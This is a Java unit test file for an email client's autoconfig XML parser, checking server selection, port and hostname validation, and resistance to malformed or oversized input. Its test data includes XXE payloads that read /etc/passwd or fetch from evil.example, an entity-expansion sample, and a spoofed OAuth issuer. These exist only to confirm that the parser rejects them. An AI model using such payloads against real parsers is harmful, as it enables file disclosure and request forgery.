package postern.discovery;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import postern.account.ImapServer;
import postern.account.Security;
import postern.egress.DomainName;
import postern.provider.SignIn;
import postern.provider.SmtpServer;
import postern.provider.UsernameForm;

class AutoconfigTest {

    private static final DomainName DOMAIN = new DomainName("house.example");

    static final String WHOLE =
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <clientConfig version="1.1">
              <emailProvider id="house.example">
                <domain>house.example</domain>
                <displayName>House</displayName>
                <incomingServer type="pop3">
                  <hostname>pop.house.example</hostname><port>995</port>
                  <socketType>SSL</socketType>
                </incomingServer>
                <incomingServer type="imap">
                  <hostname>imap.house.example</hostname>
                  <port>993</port>
                  <socketType>SSL</socketType>
                  <username>%EMAILADDRESS%</username>
                  <authentication>OAuth2</authentication>
                  <authentication>password-cleartext</authentication>
                </incomingServer>
                <outgoingServer type="smtp">
                  <hostname>smtp.%EMAILDOMAIN%</hostname>
                  <port>587</port>
                  <socketType>STARTTLS</socketType>
                </outgoingServer>
              </emailProvider>
              <oAuth2><issuer>evil.example</issuer><authURL>https://evil.example/</authURL></oAuth2>
            </clientConfig>
            """;

    @Test
    void theServersOfAFileAreRead() {
        var found = read(WHOLE).orElseThrow();

        assertThat(found.imap()).isEqualTo(new ImapServer("imap.house.example", 993, Security.TLS));
        assertThat(found.smtp())
                .isEqualTo(new SmtpServer("smtp.house.example", 587, Security.STARTTLS));
        assertThat(found.username()).isEqualTo(UsernameForm.ADDRESS);
        assertThat(found.signIn()).containsExactlyInAnyOrder(SignIn.OAUTH, SignIn.PASSWORD);
    }

    @Test
    void nothingOfAStrangersOAuthIsTold() {
        assertThat(read(WHOLE).orElseThrow().toString()).doesNotContain("evil");
    }

    @Test
    void aServerThatCannotBeUsedIsPassedOver() {
        var second =
                """
                <incomingServer type="imap">
                  <hostname>second.house.example</hostname><port>143</port>
                  <socketType>STARTTLS</socketType><username>%EMAILLOCALPART%</username>
                </incomingServer>
                <outgoingServer\
                """;
        var first = WHOLE.replace("<hostname>imap.house.example", "<hostname>127.0.0.1");

        var found = read(first.replace("<outgoingServer", second)).orElseThrow();

        assertThat(found.imap().host()).isEqualTo("second.house.example");
        assertThat(found.username()).isEqualTo(UsernameForm.LOCAL_PART);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<hostname>imap.house.example | <hostname>127.0.0.1",
                "<hostname>imap.house.example | <hostname>localhost",
                "<hostname>imap.house.example | <hostname>",
                "<port>993 | <port>0",
                "<port>993 | <port>65536",
                "<port>993 | <port>-1",
                "<port>993 | <port>99999999999",
                "<socketType>SSL</socketType>`      <username> | <socketType>plain</socketType><username>",
                "type=\"imap\" | type=\"exchange\"",
                "clientConfig | html",
                "emailProvider | provider"
            })
    void withoutAServerThatCanBeUsedNothingIsFound(String part, String other) {
        var bad = WHOLE.replace(part.replace("`", "\n"), other);

        assertThat(bad).isNotEqualTo(WHOLE);
        assertThat(read(bad)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE clientConfig>",
                "<!DOCTYPE c [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE c SYSTEM \"https://evil.example/x.dtd\">",
                "<!DOCTYPE c [<!ENTITY % p SYSTEM \"https://evil.example/x\"> %p;]>",
                "<!DOCTYPE c [<!ENTITY a \"xxxxxxxxxx\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]>"
            })
    void aFileWithADoctypeIsRefused(String doctype) {
        assertThat(read(WHOLE.replace("<clientConfig v", doctype + "<clientConfig v"))).isEmpty();
        assertThat(read(WHOLE.replace("%EMAILADDRESS%", "&b;"))).isEmpty();
    }

    @Test
    @Timeout(20)
    void deepAndWideFilesTakeLittleTime() {
        var deep = "<a>".repeat(20_000);
        var wide = "<clientConfig>" + "<a b='c'/>".repeat(6_000) + "</clientConfig>";
        var attributes = new StringBuilder("<clientConfig");
        for (int i = 0; i < 5_000; i++) {
            attributes.append(" a").append(i).append("='x'");
        }
        var began = System.nanoTime();

        assertThat(read(deep)).isEmpty();
        assertThat(read(wide)).isEmpty();
        assertThat(read(attributes + "/>")).isEmpty();
        assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(10));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "hello", "<clientConfig>", "{}", "<!DOCTYPE html><html></html>"})
    void whatIsNoXmlIsNothing(String text) {
        assertThat(read(text)).isEmpty();
    }

    private static Optional<FoundServers.Foreign> read(String file) {
        return Autoconfig.read(file.getBytes(UTF_8), DOMAIN);
    }
}
